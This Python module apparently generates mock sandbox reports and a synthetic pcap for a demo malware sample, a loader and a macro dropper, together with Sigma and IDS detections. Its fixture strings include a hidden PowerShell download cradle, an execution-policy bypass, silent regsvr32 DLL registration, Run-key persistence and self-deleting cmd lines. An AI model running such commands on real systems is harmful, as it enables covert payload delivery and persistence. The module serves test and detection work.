"""Sandbox reports of the demo's detected sample, and a tiny but valid pcap.

The behaviour summary is built from the file's own relationships, so the DNS lookups,
IP traffic and HTTP conversations match ``contacted_domains``/``ips``/``urls`` and
``files_dropped`` lists the hashes of ``dropped_files``.
"""

from __future__ import annotations

import ipaddress
import struct
from typing import Any
from urllib.parse import urlsplit

from .specs import DAY, HOUR, T, hexid

SANDBOX_HOST = "192.0.2.200"
RESOLVER = "192.0.2.53"


def behaviour_summary(
    *,
    sha256: str,
    name: str,
    family: str,
    dns: list[tuple[str, list[str]]],
    traffic: list[tuple[str, int]],
    urls: list[str],
    dropped: list[tuple[str, str]],
) -> dict[str, Any]:
    """The attributes of ``GET /files/{id}/behaviour_summary`` for a loader."""
    fam = family.capitalize()
    sample = f"%SAMPLEPATH%\\{name}"
    stage = "C:\\Users\\<USER>\\AppData\\Local\\Temp\\stage2.ps1"
    return {
        "verdicts": ["MALWARE", "TROJAN"],
        "verdict_labels": [fam, f"{fam}Loader"],
        "verdict_confidence": 90,
        "tags": ["DETECT_DEBUG_ENVIRONMENT", "LONG_SLEEPS", "PERSISTENCE", "CHECKS_NETWORK_ADAPTERS",
                 "RUNTIME_MODULES"],
        "processes_tree": [{
            "process_id": "2284", "name": "C:\\Windows\\explorer.exe", "children": [{
                "process_id": "4120", "name": sample, "children": [
                    {"process_id": "4388", "name": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                     "children": [{"process_id": "4512", "name": "C:\\Windows\\System32\\regsvr32.exe"}]},
                    {"process_id": "4630", "name": "C:\\Windows\\System32\\cmd.exe"},
                ]}]}],
        "processes_created": [sample, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                              "C:\\Windows\\System32\\regsvr32.exe", "C:\\Windows\\System32\\cmd.exe"],
        "processes_injected": ["C:\\Windows\\explorer.exe"],
        "processes_terminated": ["C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\regsvr32.exe"],
        "command_executions": [
            f"\"{sample}\"",
            f"powershell.exe -w hidden -ep bypass -File \"{stage}\"",
            "regsvr32.exe /s \"C:\\Users\\<USER>\\AppData\\Roaming\\Microsoft\\Libs\\vexsvc.dll\"",
            "cmd.exe /c ping -n 3 127.0.0.1 > nul & del \"%SAMPLEPATH%\"",
        ],
        "files_written": [path for path, _ in dropped] + ["C:\\Users\\<USER>\\AppData\\Local\\Temp\\~vx1.tmp"],
        "files_deleted": ["C:\\Users\\<USER>\\AppData\\Local\\Temp\\~vx1.tmp"],
        "files_dropped": [{"path": path, "sha256": sha, "type": "file"} for path, sha in dropped],
        "files_opened": ["C:\\Windows\\System32\\wininet.dll", "C:\\Windows\\System32\\drivers\\etc\\hosts"],
        "registry_keys_set": [
            {"key": "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\InvoiceViewerUpdate",
             "value": "\"C:\\Users\\<USER>\\AppData\\Roaming\\Microsoft\\Libs\\invview.exe\""},
            {"key": "HKCU\\Software\\Classes\\CLSID\\{5A1F1B3C-7E2D-4C8A-9B0E-3D6F2A1C9E47}\\InprocServer32",
             "value": "C:\\Users\\<USER>\\AppData\\Roaming\\Microsoft\\Libs\\vexsvc.dll"},
        ],
        "registry_keys_opened": ["HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion",
                                 "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings"],
        "mutexes_created": ["Global\\VxB-7f3a1c", "Local\\ZonesCacheCounterMutex"],
        "modules_loaded": ["wininet.dll", "advapi32.dll", "crypt32.dll", "ws2_32.dll"],
        "calls_highlighted": ["IsDebuggerPresent", "GetTickCount", "CreateRemoteThread", "WriteProcessMemory",
                              "InternetOpenW"],
        "text_highlighted": ["Invoice Viewer", "Unable to open the invoice. The file may be damaged."],
        "dns_lookups": [{"hostname": host, "resolved_ips": ips} for host, ips in dns],
        "ip_traffic": [{"destination_ip": ip, "destination_port": port, "transport_layer_protocol": "TCP"}
                       for ip, port in traffic],
        "http_conversations": [
            {"url": url, "request_method": "POST" if url.endswith("gate.php") else "GET",
             "response_status_code": 404 if url.endswith("gate.php") else 200,
             "request_headers": {"User-Agent": "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko",
                                 "Host": urlsplit(url).netloc}}
            for url in urls],
        "ja3_digests": [hexid("ja3", sha256, n=32)],
        "tls": [{"sni": host, "version": "TLS 1.2", "ja3": hexid("ja3", sha256, n=32),
                 "ja3s": hexid("ja3s", host, n=32),
                 "issuer": {"C": "US", "O": "Example Trust Services", "CN": "ETS R3"}, "subject": {"CN": host},
                 "serial_number": hexid("serial", host, n=32), "thumbprint": hexid("tp1", host, n=40)}
                for host, _ in dns if any(u.startswith(f"https://{host}") for u in urls)],
        "mitre_attack_techniques": [
            {"id": "T1547.001", "signature_description": "Creates a Run key for persistence",
             "severity": "IMPACT_SEVERITY_HIGH",
             "refs": [{"ref": "#signature:persistence_autorun", "value": "persistence_autorun"}]},
            {"id": "T1055", "signature_description": "Writes to and starts a thread in another process",
             "severity": "IMPACT_SEVERITY_HIGH",
             "refs": [{"ref": "#signature:injection_createremotethread", "value": "injection_createremotethread"}]},
            {"id": "T1071.001", "signature_description": "Talks HTTP to its command and control server",
             "severity": "IMPACT_SEVERITY_MEDIUM", "refs": []},
            {"id": "T1105", "signature_description": "Downloads a second stage over HTTP",
             "severity": "IMPACT_SEVERITY_MEDIUM", "refs": []},
            {"id": "T1059.001", "signature_description": "Runs PowerShell with the execution policy bypassed",
             "severity": "IMPACT_SEVERITY_MEDIUM", "refs": []},
            {"id": "T1497.003", "signature_description": "Sleeps for a long time to outlast sandboxes",
             "severity": "IMPACT_SEVERITY_LOW", "refs": []},
            {"id": "T1016", "signature_description": "Looks up its public IP address",
             "severity": "IMPACT_SEVERITY_LOW", "refs": []},
            {"id": "T1622", "signature_description": "Checks whether a debugger is present",
             "severity": "IMPACT_SEVERITY_INFO", "refs": []},
        ],
        "signature_matches": [
            {"id": "persistence_autorun", "name": "Installs itself for autorun at Windows startup",
             "severity": "SIGNATURE_SEVERITY_HIGH", "format": "SIG_FORMAT_CUCKOO", "authors": ["Example Sandbox Team"]},
        ],
        "sigma_analysis_results": [
            {"rule_title": "Suspicious Run Key Written by a Binary in AppData", "rule_level": "high",
             "rule_id": hexid("sigma", "runkey", n=36), "rule_source": "Sigma Integrated Rule Set (GitHub)",
             "rule_author": "Example Detection Engineering",
             "rule_description": "Detects Run-key persistence pointing into the user profile",
             "match_context": [{"values": {"TargetObject": "HKCU\\...\\Run\\InvoiceViewerUpdate",
                                           "Image": sample}}]},
            {"rule_title": "PowerShell Execution Policy Bypass from a Hidden Window", "rule_level": "medium",
             "rule_id": hexid("sigma", "psbypass", n=36), "rule_source": "Sigma Integrated Rule Set (GitHub)",
             "rule_author": "Example Detection Engineering",
             "rule_description": "Detects powershell.exe started with -w hidden and -ep bypass",
             "match_context": [{"values": {
                 "CommandLine": f"powershell.exe -w hidden -ep bypass -File \"{stage}\""}}]},
            {"rule_title": "Regsvr32 Silent Registration of a DLL in AppData", "rule_level": "medium",
             "rule_id": hexid("sigma", "regsvr", n=36), "rule_source": "Sigma Integrated Rule Set (GitHub)",
             "rule_author": "Example Community Rules",
             "rule_description": "Detects regsvr32 /s on a user-writable path"},
            {"rule_title": "Self Deletion via Ping Delay", "rule_level": "low",
             "rule_id": hexid("sigma", "selfdel", n=36), "rule_source": "Sigma Integrated Rule Set (GitHub)",
             "rule_author": "Example Community Rules",
             "rule_description": "Detects cmd /c ping ... & del of the sample"},
        ],
        "ids_alerts": [_ids_alert(url, dns) for url in urls if _ids_rule(url)],
    }


def _ids_rule(url: str) -> tuple[str, str, str, str] | None:
    """(severity, message, category, rule id) of the demo IDS rule a URL trips, if any."""
    if url.endswith("gate.php"):
        return ("high", "ET MALWARE Vexbot CnC Beacon (POST /gate.php)", "A Network Trojan was detected", "1:2999001")
    if "checkip" in url:
        return ("medium", "ET INFO External IP Lookup Domain in DNS Query", "Potentially Bad Traffic", "1:2999002")
    if "/raw/" in url:
        return ("medium", "ET HUNTING Paste Site Raw Download of a PowerShell Script", "Potentially Bad Traffic",
                "1:2999003")
    return None


def _ids_alert(url: str, dns: list[tuple[str, list[str]]]) -> dict[str, Any]:
    rule = _ids_rule(url)
    assert rule is not None
    severity, message, category, rule_id = rule
    parts = urlsplit(url)
    host = parts.hostname or ""
    ips = next((ips for h, ips in dns if h == host), [host])
    return {"rule_msg": message, "alert_severity": severity, "rule_category": category, "rule_id": rule_id,
            "rule_source": "Example Emerging Rules", "rule_url": "https://rules.example.org/ids/",
            "alert_context": {"src_ip": SANDBOX_HOST, "src_port": 49712, "dest_ip": ips[0] if ips else host,
                              "dest_port": parts.port or 80, "hostname": host, "url": url, "protocol": "TCP"}}


_PS_AGENT = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1"


def macro_summary(*, name: str, dns: list[tuple[str, list[str]]], traffic: list[tuple[str, int]],
                  urls: list[str], dropped: list[tuple[str, str]]) -> dict[str, Any]:
    """The attributes of a behaviour summary for the macro document that starts the chain."""
    doc = f"C:\\Users\\<USER>\\Documents\\{name}"
    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    cradle = f"powershell.exe -w hidden -ep bypass -c \"iwr {urls[0] if urls else ''} -OutFile $env:TEMP\\s.ps1\""
    child = dropped[0][0].rsplit("\\", 1)[-1] if dropped else "payload.exe"
    return {
        "verdicts": ["MALWARE", "DROPPER"], "verdict_labels": ["Vexbot", "VBA downloader"], "verdict_confidence": 80,
        "tags": ["MACROS", "DETECT_DEBUG_ENVIRONMENT"],
        "processes_tree": [{"process_id": "1812", "name": word, "children": [
            {"process_id": "3320", "name": ps, "children": [
                {"process_id": "3904", "name": f"%TEMP%\\{child}"}]}]}],
        "processes_created": [word, ps],
        "processes_terminated": [ps],
        "command_executions": [f"\"{word}\" /n \"{doc}\"", cradle],
        "files_written": [path for path, _ in dropped] + ["C:\\Users\\<USER>\\AppData\\Local\\Temp\\s.ps1"],
        "files_deleted": ["C:\\Users\\<USER>\\AppData\\Local\\Temp\\s.ps1"],
        "files_dropped": [{"path": path, "sha256": sha, "type": "file"} for path, sha in dropped],
        "registry_keys_set": [{
            "key": "HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted Documents", "value": doc}],
        "mutexes_created": ["Local\\WinwordMacroMutex"],
        "dns_lookups": [{"hostname": host, "resolved_ips": ips} for host, ips in dns],
        "ip_traffic": [{"destination_ip": ip, "destination_port": port, "transport_layer_protocol": "TCP"}
                       for ip, port in traffic],
        "http_conversations": [
            {"url": url, "request_method": "GET", "response_status_code": 200,
             "request_headers": {"User-Agent": _PS_AGENT, "Host": urlsplit(url).netloc},
             "response_headers": {"Content-Type": "text/plain; charset=utf-8", "Server": "openresty"}}
            for url in urls],
        "mitre_attack_techniques": [
            {"id": "T1204.002", "signature_description": "Document asks the user to enable content",
             "severity": "IMPACT_SEVERITY_MEDIUM", "refs": []},
            {"id": "T1059.005", "signature_description": "Runs a VBA macro when the document opens",
             "severity": "IMPACT_SEVERITY_HIGH", "refs": []},
            {"id": "T1059.001", "signature_description": "Starts PowerShell from an Office application",
             "severity": "IMPACT_SEVERITY_HIGH", "refs": []},
            {"id": "T1105", "signature_description": "Downloads a script from a paste site",
             "severity": "IMPACT_SEVERITY_MEDIUM", "refs": []},
        ],
        "sigma_analysis_results": [
            {"rule_title": "Office Application Spawning PowerShell", "rule_level": "high",
             "rule_id": hexid("sigma", "officeps", n=36), "rule_source": "Sigma Integrated Rule Set (GitHub)",
             "rule_author": "Example Detection Engineering",
             "rule_description": "Detects WINWORD.EXE starting powershell.exe"},
        ],
        "ids_alerts": [_ids_alert(url, dns) for url in urls if _ids_rule(url)],
    }


_SANDBOX_KEYS = ("processes_tree", "processes_created", "processes_terminated", "command_executions",
                 "files_written", "files_deleted", "files_dropped", "registry_keys_set", "mutexes_created",
                 "dns_lookups", "ip_traffic", "http_conversations", "mitre_attack_techniques",
                 "sigma_analysis_results", "ids_alerts", "tags", "calls_highlighted", "modules_loaded")


def file_behaviour(summary: dict[str, Any], sandbox: str, has_pcap: bool, index: int,
                   verdicts: tuple[str, ...] = ()) -> dict[str, Any]:
    """One sandbox's report: a subset of the summary plus the report's own flags and verdicts.

    Sandboxes without a capture have no IDS alerts; the one with no verdict saw no
    HTTP and matched no technique (its ATT&CK tree is null).
    """
    attrs = {key: summary[key] for key in _SANDBOX_KEYS if key in summary}
    attrs["verdicts"] = list(verdicts) or list(summary.get("verdicts") or [])
    if not has_pcap:
        attrs.pop("ids_alerts", None)
    if sandbox == "CAPE Sandbox":  # its signatures only flag what matters: no low or info techniques
        attrs["mitre_attack_techniques"] = [t for t in attrs.get("mitre_attack_techniques", [])
                                            if t.get("severity") in ("IMPACT_SEVERITY_HIGH", "IMPACT_SEVERITY_MEDIUM")]
    if not has_pcap and "UNKNOWN_VERDICT" in verdicts:
        for key in ("http_conversations", "mitre_attack_techniques", "sigma_analysis_results"):
            attrs.pop(key, None)
    when = T - 5 * HOUR - index * DAY // 3
    attrs.update({
        "sandbox_name": sandbox, "analysis_date": when, "last_modification_date": when + 600,
        "has_pcap": has_pcap, "has_html_report": sandbox != "VirusTotal Jujubox", "has_evtx": sandbox == "Zenbox",
        "has_memdump": False, "behash": hexid("behash", sandbox, n=32),
    })
    return attrs


# --- pcap -------------------------------------------------------------------------


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\x00"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _ipv4(src: str, dst: str, proto: int, payload: bytes, ident: int) -> bytes:
    s, d = ipaddress.IPv4Address(src).packed, ipaddress.IPv4Address(dst).packed
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x4000, 128, proto, 0, s, d)
    header = header[:10] + struct.pack("!H", _checksum(header)) + header[12:]
    return header + payload


def _udp(src: str, dst: str, sport: int, dport: int, data: bytes) -> bytes:
    return struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data


def _tcp(src: str, dst: str, sport: int, dport: int, seq: int, ack: int, flags: int, data: bytes = b"") -> bytes:
    header = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0)
    pseudo = (ipaddress.IPv4Address(src).packed + ipaddress.IPv4Address(dst).packed
              + struct.pack("!BBH", 0, 6, len(header) + len(data)))
    checksum = _checksum(pseudo + header + data)
    return header[:16] + struct.pack("!H", checksum) + header[18:] + data


def _dns_name(host: str) -> bytes:
    return b"".join(bytes([len(p)]) + p.encode() for p in host.split(".")) + b"\x00"


def pcap_bytes(host: str, ip: str, path: str = "/gate.php", *, start: int = T - 5 * HOUR,
               method: str = "POST") -> bytes:
    """A small, valid pcap: DNS lookup of ``host``, TCP handshake to ``ip``:80, one HTTP request."""
    eth = bytes.fromhex("00005e005301") + bytes.fromhex("00005e005302") + b"\x08\x00"
    query = struct.pack("!HHHHHH", 0x5A17, 0x0100, 1, 0, 0, 0) + _dns_name(host) + struct.pack("!HH", 1, 1)
    answer = (struct.pack("!HHHHHH", 0x5A17, 0x8180, 1, 1, 0, 0) + _dns_name(host) + struct.pack("!HH", 1, 1)
              + struct.pack("!HHHIH", 0xC00C, 1, 1, 300, 4) + ipaddress.IPv4Address(ip).packed)
    body = b"id=SU5WLVZJRVdFUnxVU0VSfDIwMjYwNw%3D%3D"
    if method != "POST":
        body = b""
    request = (f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n"
               "User-Agent: Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) "
               f"like Gecko\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n\r\n"
               ).encode() + body
    c, s = SANDBOX_HOST, ip
    packets = [
        _ipv4(c, RESOLVER, 17, _udp(c, RESOLVER, 51514, 53, query), 1),
        _ipv4(RESOLVER, c, 17, _udp(RESOLVER, c, 53, 51514, answer), 2),
        _ipv4(c, s, 6, _tcp(c, s, 49712, 80, 1000, 0, 0x02), 3),
        _ipv4(s, c, 6, _tcp(s, c, 80, 49712, 5000, 1001, 0x12), 4),
        _ipv4(c, s, 6, _tcp(c, s, 49712, 80, 1001, 5001, 0x10), 5),
        _ipv4(c, s, 6, _tcp(c, s, 49712, 80, 1001, 5001, 0x18, request), 6),
    ]
    out = [struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)]
    for i, packet in enumerate(packets):
        frame = eth + packet
        out.append(struct.pack("<IIII", start + i // 2, (i * 137_000) % 1_000_000, len(frame), len(frame)) + frame)
    return b"".join(out)
